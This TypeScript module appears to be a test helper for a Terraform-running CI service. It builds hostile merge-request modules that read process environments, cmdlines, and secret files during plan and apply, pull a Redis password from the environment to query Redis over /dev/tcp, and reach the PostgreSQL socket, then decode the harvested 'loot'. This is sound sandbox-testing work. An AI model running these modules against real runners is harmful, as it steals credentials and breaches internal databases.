/*
 * What hostile code in a merge request would try. It looks where the service keeps its secrets, by functions while it is
 * planned and by a program while it is applied, and brings everything home: encoded, so that nothing that hides known
 * secrets on the way can make it look better than it is.
 */

/** What the attacker knows of the machine: names of files, folders and sockets, which are no secrets. */
export interface Targets {
  files: readonly string[];
  folders: readonly string[];
  /** A socket of PostgreSQL on this machine. */
  postgresSocket?: string;
  /** The loopback port of a Redis. */
  redisPort?: number;
}

/** A root module, its program beside it. What it reads while it is planned is in the output `loot`: base64 by path. */
export function attackModule(targets: Targets): Record<string, string> {
  return {
    'attack.sh': program(targets),
    'attack.tf': `
locals {
  processes = setunion(${processFiles('environ')}, ${processFiles('cmdline')})
  folders   = ${JSON.stringify(targets.folders)}
  paths = toset(concat(
    [for each in local.processes : "/proc/\${each}"],
    ${JSON.stringify(targets.files)},
    flatten([for folder in local.folders : [for each in try(fileset(folder, "**"), []) : "\${folder}/\${each}"]]),
  ))
  read = { for path in local.paths : path => try(filebase64(path), "") }
}
output "loot" {
  value = { for path, content in local.read : path => content if content != "" }
}
resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash"]
    command     = "\${path.module}/attack.sh"
  }
}
`,
  };
}

/** Files of that name of all processes; listing them breaks off when one ends meanwhile, and is begun anew. */
function processFiles(name: string): string {
  const tries = Array.from({ length: 8 }, () => `fileset("/proc", "*/${name}")`);
  return `try(${tries.join(', ')})`;
}

/** A root module that, while it is planned, has terraform itself make a table in the service's database. */
export function databaseAttack(socketFolder: string, database: string): Record<string, string> {
  const login = `host=${socketFolder} user=postgres dbname=${database} sslmode=disable connect_timeout=5`;
  return {
    'attack.tf': `
data "terraform_remote_state" "database" {
  backend = "pg"
  config = {
    conn_str    = ${JSON.stringify(login)}
    schema_name = "${BREACH}"
  }
}
`,
  };
}

/** The schema that is there once the database let an attacker in. */
export const BREACH = 'breach';

/** Brought home by the program: `LOOT <path> <hexadecimal>`, in as many lines as it takes. */
function program({ files, folders, postgresSocket = '', redisPort = 0 }: Targets): string {
  const quoted = (paths: readonly string[]) => paths.map((path) => `'${path}'`).join(' ');
  return `say() { od -An -v -tx1 | tr -d ' \\n' | fold -w 8000 | sed "s|^|LOOT $1 |; s|$|\\n|" | grep LOOT; }
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline ${quoted(files)}; do
  [ -r "$f" ] && [ -n "$(head -c 1 "$f" 2>/dev/null | tr '\\0' x)" ] && cat "$f" 2>/dev/null | say "$f"
  case "$f" in /proc/*) ;; *) [ -w "$f" ] && echo yes | say "writable:$f" ;; esac
done
find ${quoted(folders)} -type f 2>/dev/null | while read -r f; do cat "$f" 2>/dev/null | say "$f"; done
for f in /proc/[0-9]*/root${files[0] ?? ''}; do [ -r "$f" ] && cat "$f" | say "$f"; done
[ -n '${postgresSocket}' ] && [ -w '${postgresSocket}' ] && echo yes | say database-socket
password=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | sed -n 's|^REDIS_URL=redis://:\\(.*\\)@127.0.0.1:${redisPort}$|\\1|p' | head -n 1)
if [ ${redisPort} != 0 ] && exec 3<>/dev/tcp/127.0.0.1/${redisPort}; then
  [ -n "$password" ] && printf 'AUTH %s\\r\\n' "$password" >&3
  printf 'KEYS *\\r\\nQUIT\\r\\n' >&3
  timeout 5 cat <&3 | say queue
fi
exit 0
`;
}

/** What the output `loot` of a plan holds, by path. */
export function plunderedByPlan(loot: Record<string, string>): { place: string; content: Buffer }[] {
  return Object.entries(loot).map(([place, content]) => ({ place, content: Buffer.from(content, 'base64') }));
}

/** What the program said, by path. */
export function plunderedByApply(lines: readonly string[]): { place: string; content: Buffer }[] {
  const found = new Map<string, string>();
  for (const line of lines) {
    const [, place = '', hex = ''] = /LOOT (\S+) ([0-9a-f]+)/.exec(line) ?? [];
    if (place !== '') found.set(place, (found.get(place) ?? '') + hex);
  }
  return [...found].map(([place, hex]) => ({ place, content: Buffer.from(hex, 'hex') }));
}
